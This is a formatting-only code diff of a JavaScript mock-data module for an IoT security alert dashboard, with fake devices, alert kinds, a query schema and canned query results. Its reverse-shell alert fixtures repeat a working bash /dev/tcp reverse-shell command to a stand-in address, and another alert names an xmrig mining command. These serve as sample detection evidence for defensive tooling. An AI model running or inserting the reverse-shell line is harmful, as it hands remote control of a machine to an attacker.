@@ -19,11 +19,32 @@ export const noAlerts = () => ({ High: 0, Medium: 0, Low: 0, Informational: 0 })
 /** @param {Partial<Device> & { deviceId: string }} fields @returns {Device} */
 export function makeDevice(fields) {
   return {
-    generationId: '638000000000000001', status: 'enabled', created: ago(60 * 24 * 12), connectionState: 'Connected', reporting: 'reporting', lastActivity: ago(0.2),
-    openAlerts: noAlerts(), agentVersion: '0.1.0', os: 'Debian GNU/Linux 12 (bookworm), x86_64',
-    modules: [{ moduleId: 'DefenderIotMicroAgent', generationId: '638000000000000002', connectionState: 'Connected', created: ago(60 * 24 * 12), lastActivity: ago(0.2) }],
+    generationId: '638000000000000001',
+    status: 'enabled',
+    created: ago(60 * 24 * 12),
+    connectionState: 'Connected',
+    reporting: 'reporting',
+    lastActivity: ago(0.2),
+    openAlerts: noAlerts(),
+    agentVersion: '0.1.0',
+    os: 'Debian GNU/Linux 12 (bookworm), x86_64',
+    modules: [
+      {
+        moduleId: 'DefenderIotMicroAgent',
+        generationId: '638000000000000002',
+        connectionState: 'Connected',
+        created: ago(60 * 24 * 12),
+        lastActivity: ago(0.2),
+      },
+    ],
     coverage: { process: 'ebpf', network: 'ebpf', login: 'audit', system_information: 'procfs', heartbeat: 'builtin' },
-    systemInformation: { OSName: 'Debian GNU/Linux', OSVersion: '12 (bookworm)', OsArchitecture: 'x86_64', HostName: fields.deviceId, BIOSVersion: '1.16.3' },
+    systemInformation: {
+      OSName: 'Debian GNU/Linux',
+      OSVersion: '12 (bookworm)',
+      OsArchitecture: 'x86_64',
+      HostName: fields.deviceId,
+      BIOSVersion: '1.16.3',
+    },
     ...fields,
   };
 }
@@ -32,33 +53,98 @@ export function makeDevice(fields) {
 export const devices = [
   makeDevice({ deviceId: 'press-17', group: 'line-2' }),
   makeDevice({ deviceId: 'gateway-north', group: 'gateways', os: 'Ubuntu 24.04 LTS, aarch64' }),
-  makeDevice({ deviceId: 'camera-dock-3', group: 'cameras', reporting: 'silent', connectionState: 'Disconnected', lastActivity: ago(47), os: 'Buildroot 2025.02, armv7l', coverage: { process: 'proc_connector', network: 'sock_diag', login: 'unavailable' } }),
-  makeDevice({ deviceId: 'hvac-roof', reporting: 'never', connectionState: 'Disconnected', lastActivity: undefined, agentVersion: undefined, os: undefined, coverage: {}, systemInformation: undefined }),
-  makeDevice({ deviceId: 'old-plc-bridge', status: 'disabled', connectionState: 'Disconnected', reporting: 'silent', lastActivity: ago(60 * 24 * 3) }),
-  ...Array.from({ length: 130 }, (_, index) => makeDevice({ deviceId: `sensor-${String(index + 1).padStart(3, '0')}`, group: `hall-${1 + (index % 4)}`, lastActivity: ago(0.5 + index / 30) })),
+  makeDevice({
+    deviceId: 'camera-dock-3',
+    group: 'cameras',
+    reporting: 'silent',
+    connectionState: 'Disconnected',
+    lastActivity: ago(47),
+    os: 'Buildroot 2025.02, armv7l',
+    coverage: { process: 'proc_connector', network: 'sock_diag', login: 'unavailable' },
+  }),
+  makeDevice({
+    deviceId: 'hvac-roof',
+    reporting: 'never',
+    connectionState: 'Disconnected',
+    lastActivity: undefined,
+    agentVersion: undefined,
+    os: undefined,
+    coverage: {},
+    systemInformation: undefined,
+  }),
+  makeDevice({
+    deviceId: 'old-plc-bridge',
+    status: 'disabled',
+    connectionState: 'Disconnected',
+    reporting: 'silent',
+    lastActivity: ago(60 * 24 * 3),
+  }),
+  ...Array.from({ length: 130 }, (_, index) =>
+    makeDevice({
+      deviceId: `sensor-${String(index + 1).padStart(3, '0')}`,
+      group: `hall-${1 + (index % 4)}`,
+      lastActivity: ago(0.5 + index / 30),
+    }),
+  ),
 ];
 
 /** @type {Record<string, Pick<Alert, 'displayName' | 'severity' | 'description' | 'remediationSteps' | 'tactics' | 'techniques' | 'rule'>>} */
 const kinds = {
   IoT_ReverseShell: {
-    displayName: 'Reverse shells', severity: 'High', rule: 'behavior/reverse-shell', tactics: ['Execution', 'CommandAndControl'], techniques: ['T1059.004', 'T1071'],
-    description: 'A shell was started whose standard input and output are a network connection to 203.0.113.77:4444. Somebody at the other end can run commands on this device.',
-    remediationSteps: ['Isolate the device from the network.', 'Look at the parent process: it shows how the shell was started.', 'Look for other devices that talk to the same remote address.', 'Rebuild the device from a known good image.'],
+    displayName: 'Reverse shells',
+    severity: 'High',
+    rule: 'behavior/reverse-shell',
+    tactics: ['Execution', 'CommandAndControl'],
+    techniques: ['T1059.004', 'T1071'],
+    description:
+      'A shell was started whose standard input and output are a network connection to 203.0.113.77:4444. Somebody at the other end can run commands on this device.',
+    remediationSteps: [
+      'Isolate the device from the network.',
+      'Look at the parent process: it shows how the shell was started.',
+      'Look for other devices that talk to the same remote address.',
+      'Rebuild the device from a known good image.',
+    ],
   },
   IoT_BruteForceSuccess: {
-    displayName: 'Successful Bruteforce attempt', severity: 'High', rule: 'behavior/ssh-brute-force', tactics: ['CredentialAccess'], techniques: ['T1110.001'],
+    displayName: 'Successful Bruteforce attempt',
+    severity: 'High',
+    rule: 'behavior/ssh-brute-force',
+    tactics: ['CredentialAccess'],
+    techniques: ['T1110.001'],
     description: '23 sign-ins failed within 2 minutes from 198.51.100.9, then one succeeded as root.',
-    remediationSteps: ['End the session and lock the account.', 'Change the secret of the account; prefer keys to passwords.', 'Let SSH be reached from the management network only.'],
+    remediationSteps: [
+      'End the session and lock the account.',
+      'Change the secret of the account; prefer keys to passwords.',
+      'Let SSH be reached from the management network only.',
+    ],
   },
   IoT_BruteForceFailed: {
-    displayName: 'Failed Bruteforce attempt', severity: 'Low', rule: 'behavior/ssh-brute-force', tactics: ['CredentialAccess'], techniques: ['T1110.001'],
-    description: '31 sign-ins failed within 3 minutes from 198.51.100.9. None succeeded.', remediationSteps: ['Block the source address.', 'Let SSH be reached from the management network only.'],
+    displayName: 'Failed Bruteforce attempt',
+    severity: 'Low',
+    rule: 'behavior/ssh-brute-force',
+    tactics: ['CredentialAccess'],
+    techniques: ['T1110.001'],
+    description: '31 sign-ins failed within 3 minutes from 198.51.100.9. None succeeded.',
+    remediationSteps: ['Block the source address.', 'Let SSH be reached from the management network only.'],
   },
   IoT_CryptoMiner: {
-    displayName: 'Crypto coin miner image', severity: 'Medium', rule: 'behavior/crypto-miner', tactics: ['Impact'], techniques: ['T1496'],
-    description: 'The command line of a process names a mining pool: xmrig -o stratum+tcp://pool.example:3333.', remediationSteps: ['Stop the process and find out how it got there.', 'Remove its autostart entries.'],
+    displayName: 'Crypto coin miner image',
+    severity: 'Medium',
+    rule: 'behavior/crypto-miner',
+    tactics: ['Impact'],
+    techniques: ['T1496'],
+    description: 'The command line of a process names a mining pool: xmrig -o stratum+tcp://pool.example:3333.',
+    remediationSteps: ['Stop the process and find out how it got there.', 'Remove its autostart entries.'],
   },
-  IoT_SelfTest: { displayName: 'Self test event', severity: 'Informational', rule: 'behavior/self-test', tactics: [], techniques: [], description: 'Somebody ran picket-agent selftest on this device.', remediationSteps: [] },
+  IoT_SelfTest: {
+    displayName: 'Self test event',
+    severity: 'Informational',
+    rule: 'behavior/self-test',
+    tactics: [],
+    techniques: [],
+    description: 'Somebody ran picket-agent selftest on this device.',
+    remediationSteps: [],
+  },
 };
 
 let nextAlert = 1;
@@ -69,26 +155,71 @@ export function makeAlert(alertType, deviceId, minutes, status = 'New') {
   const time = new Date(Date.now() - minutes * kMinute).toISOString();
   const id = `a${String(nextAlert++).padStart(6, '0')}`;
   return {
-    id, alertType, ...kind, status, startTime: time, endTime: time, raisedTime: time, deviceId, compromisedEntity: deviceId, moduleId: 'DefenderIotMicroAgent',
-    extendedProperties: { DeviceId: deviceId, 'User Name': 'root', CommandLine: "bash -c 'exec 5<>/dev/tcp/203.0.113.77/4444; cat <&5 | sh >&5'", ParentProcessId: '812' },
-    entities: [{ $id: '1', Type: 'host', HostName: deviceId }, { $id: '2', Type: 'ip', Address: '203.0.113.77' }],
+    id,
+    alertType,
+    ...kind,
+    status,
+    startTime: time,
+    endTime: time,
+    raisedTime: time,
+    deviceId,
+    compromisedEntity: deviceId,
+    moduleId: 'DefenderIotMicroAgent',
+    extendedProperties: {
+      DeviceId: deviceId,
+      'User Name': 'root',
+      CommandLine: "bash -c 'exec 5<>/dev/tcp/203.0.113.77/4444; cat <&5 | sh >&5'",
+      ParentProcessId: '812',
+    },
+    entities: [
+      { $id: '1', Type: 'host', HostName: deviceId },
+      { $id: '2', Type: 'ip', Address: '203.0.113.77' },
+    ],
     evidence: [
-      { rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b01', timeGenerated: time, rawEventName: 'ProcessCreate', eventDetails: { Executable: '/usr/bin/bash', CommandLine: "bash -c 'exec 5<>/dev/tcp/203.0.113.77/4444; cat <&5 | sh >&5'", UserName: 'root', ProcessId: 4711, ParentProcessId: 812 } },
-      { rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b02', timeGenerated: time, rawEventName: 'ConnectionCreate', eventDetails: { RemoteAddress: '203.0.113.77', RemotePort: 4444, LocalPort: 51022, Protocol: 'tcp', Direction: 'Out' } },
+      {
+        rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b01',
+        timeGenerated: time,
+        rawEventName: 'ProcessCreate',
+        eventDetails: {
+          Executable: '/usr/bin/bash',
+          CommandLine: "bash -c 'exec 5<>/dev/tcp/203.0.113.77/4444; cat <&5 | sh >&5'",
+          UserName: 'root',
+          ProcessId: 4711,
+          ParentProcessId: 812,
+        },
+      },
+      {
+        rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b02',
+        timeGenerated: time,
+        rawEventName: 'ConnectionCreate',
+        eventDetails: { RemoteAddress: '203.0.113.77', RemotePort: 4444, LocalPort: 51022, Protocol: 'tcp', Direction: 'Out' },
+      },
       { rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b03' },
     ],
     changes: [
       { time, user: 'picket', change: 'raised', status: 'New' },
-      ...(status === 'New' ? [] : [/** @type {const} */ ({ time, user: 'admin', change: 'triaged', status, comment: 'Looked at with the plant team.' })]),
+      ...(status === 'New'
+        ? []
+        : [/** @type {const} */ ({ time, user: 'admin', change: 'triaged', status, comment: 'Looked at with the plant team.' })]),
     ],
   };
 }
 
 /** @type {Alert[]} */
 export const alerts = [
-  makeAlert('IoT_ReverseShell', 'press-17', 3), makeAlert('IoT_BruteForceSuccess', 'gateway-north', 11, 'Active'), makeAlert('IoT_BruteForceFailed', 'gateway-north', 14),
-  makeAlert('IoT_CryptoMiner', 'camera-dock-3', 52), makeAlert('IoT_SelfTest', 'press-17', 60 * 5, 'Resolved'),
-  ...Array.from({ length: 120 }, (_, index) => makeAlert(index % 3 ? 'IoT_BruteForceFailed' : 'IoT_CryptoMiner', `sensor-${String(1 + (index % 9)).padStart(3, '0')}`, 90 + index * 37, index % 4 ? 'New' : 'Dismissed')),
+  makeAlert('IoT_ReverseShell', 'press-17', 3),
+  makeAlert('IoT_BruteForceSuccess', 'gateway-north', 11, 'Active'),
+  makeAlert('IoT_BruteForceFailed', 'gateway-north', 14),
+  makeAlert('IoT_CryptoMiner', 'camera-dock-3', 52),
+  makeAlert('IoT_SelfTest', 'press-17', 60 * 5, 'Resolved'),
+  ...Array.from({ length: 120 }, (_, index) =>
+    makeAlert(
+      index % 3 ? 'IoT_BruteForceFailed' : 'IoT_CryptoMiner',
+      `sensor-${String(1 + (index % 9)).padStart(3, '0')}`,
+      90 + index * 37,
+      index % 4 ? 'New' : 'Dismissed',
+    ),
+  ),
 ];
 
 const names = ['ProcessCreate', 'ConnectionCreate', 'ProcessTerminate', 'Login', 'Heartbeat', 'SystemInformation'];
@@ -97,15 +228,38 @@ export const schema = {
   event_names: names,
   tables: [
     {
-      name: 'SecurityIoTRawEvent', description: 'Every event that a device reported, one row an item.',
+      name: 'SecurityIoTRawEvent',
+      description: 'Every event that a device reported, one row an item.',
       columns: [
-        { name: 'TimeGenerated', type: 'datetime', description: 'When the event happened.' }, { name: 'TimeStamp', type: 'datetime' }, { name: 'DeviceId', type: 'string' }, { name: 'AssociatedResourceId', type: 'string' },
-        { name: 'AgentVersion', type: 'string' }, { name: 'IoTRawEventId', type: 'string' }, { name: 'IsEmpty', type: 'bool' }, { name: 'RawEventCategory', type: 'string' }, { name: 'RawEventName', type: 'string' },
-        { name: 'RawEventType', type: 'string' }, { name: 'EventDetails', type: 'string', description: 'One payload item as JSON.' },
+        { name: 'TimeGenerated', type: 'datetime', description: 'When the event happened.' },
+        { name: 'TimeStamp', type: 'datetime' },
+        { name: 'DeviceId', type: 'string' },
+        { name: 'AssociatedResourceId', type: 'string' },
+        { name: 'AgentVersion', type: 'string' },
+        { name: 'IoTRawEventId', type: 'string' },
+        { name: 'IsEmpty', type: 'bool' },
+        { name: 'RawEventCategory', type: 'string' },
+        { name: 'RawEventName', type: 'string' },
+        { name: 'RawEventType', type: 'string' },
+        { name: 'EventDetails', type: 'string', description: 'One payload item as JSON.' },
       ],
     },
-    { name: 'SecurityAlert', columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'SystemAlertId', type: 'string' }, { name: 'AlertSeverity', type: 'string' }, { name: 'DisplayName', type: 'string' }] },
-    { name: 'DeadLetter', columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Reason', type: 'string' }] },
+    {
+      name: 'SecurityAlert',
+      columns: [
+        { name: 'TimeGenerated', type: 'datetime' },
+        { name: 'SystemAlertId', type: 'string' },
+        { name: 'AlertSeverity', type: 'string' },
+        { name: 'DisplayName', type: 'string' },
+      ],
+    },
+    {
+      name: 'DeadLetter',
+      columns: [
+        { name: 'TimeGenerated', type: 'datetime' },
+        { name: 'Reason', type: 'string' },
+      ],
+    },
   ],
 };
 
@@ -114,18 +268,53 @@ export function answer(query) {
   const bad = query.indexOf('RawEventNam ');
   if (bad >= 0) {
     const before = query.slice(0, bad);
-    return { error: { code: 'query_unknown_name', message: 'Unknown column "RawEventNam"; did you mean RawEventName?', target: 'query', span: { start: bad, length: 11, line: before.split('\n').length, column: bad - before.lastIndexOf('\n') } } };
+    return {
+      error: {
+        code: 'query_unknown_name',
+        message: 'Unknown column "RawEventNam"; did you mean RawEventName?',
+        target: 'query',
+        span: { start: bad, length: 11, line: before.split('\n').length, column: bad - before.lastIndexOf('\n') },
+      },
+    };
   }
   if (/summarize/.test(query)) {
-    return table([{ name: 'RawEventName', type: 'string' }, { name: 'Events', type: 'long' }], names.map((name, index) => [name, Math.round(48_210 / (index * 2 + 1))]));
+    return table(
+      [
+        { name: 'RawEventName', type: 'string' },
+        { name: 'Events', type: 'long' },
+      ],
+      names.map((name, index) => [name, Math.round(48_210 / (index * 2 + 1))]),
+    );
   }
-  if (/DeadLetter/.test(query)) return table([{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Reason', type: 'string' }], []);
+  if (/DeadLetter/.test(query))
+    return table(
+      [
+        { name: 'TimeGenerated', type: 'datetime' },
+        { name: 'Reason', type: 'string' },
+      ],
+      [],
+    );
   const count = Number(/take (\d+)/.exec(query)?.[1] ?? 5_000);
   return table(
-    [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'DeviceId', type: 'string' }, { name: 'RawEventName', type: 'string' }, { name: 'HitCount', type: 'long' }, { name: 'EventDetails', type: 'string' }],
+    [
+      { name: 'TimeGenerated', type: 'datetime' },
+      { name: 'DeviceId', type: 'string' },
+      { name: 'RawEventName', type: 'string' },
+      { name: 'HitCount', type: 'long' },
+      { name: 'EventDetails', type: 'string' },
+    ],
     Array.from({ length: count }, (_, index) => [
-      ago(index / 40), `sensor-${String(1 + (index % 130)).padStart(3, '0')}`, names[index % names.length], (index * 7919) % 503,
-      JSON.stringify({ TimestampLocal: ago(index / 40), ProcessId: 1000 + index, Executable: '/usr/bin/curl', CommandLine: `curl -s https://updates.example/${index}`, UserName: 'root' }),
+      ago(index / 40),
+      `sensor-${String(1 + (index % 130)).padStart(3, '0')}`,
+      names[index % names.length],
+      (index * 7919) % 503,
+      JSON.stringify({
+        TimestampLocal: ago(index / 40),
+        ProcessId: 1000 + index,
+        Executable: '/usr/bin/curl',
+        CommandLine: `curl -s https://updates.example/${index}`,
+        UserName: 'root',
+      }),
     ]),
   );
 }
